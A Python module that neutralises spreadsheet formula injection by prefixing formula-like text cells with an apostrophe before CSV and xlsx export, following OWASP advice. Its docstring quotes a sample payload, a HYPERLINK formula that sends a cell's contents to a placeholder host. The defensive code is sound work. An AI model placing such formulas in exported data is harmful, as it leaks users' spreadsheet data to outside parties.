"""Text a spreadsheet would run as a formula, made harmless in every file we write (CSV and xlsx).

A name typed as `=HYPERLINK("http://x/?"&A1,"点此")` or `@SUM(...)` is data to us but a formula to
Excel, WPS and LibreOffice when they open a CSV (and in an xlsx written with xlsxwriter's write()).
OWASP's advice: a text cell that starts with = + - @ or a tab or carriage return gets a leading
apostrophe, which the spreadsheet shows as text and never evaluates. A plain number written as text
("-30.00", "+86") cannot be a formula and stays as it is. Every export writes its text cells
through cell_safe(): people, figures, rosters and bank files, import error reports.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)


def cell_safe(value: object) -> object:
    """The value to write into a cell: formula-like text with a leading apostrophe, the rest unchanged."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value


def row_safe(row) -> list:
    return [cell_safe(value) for value in row]
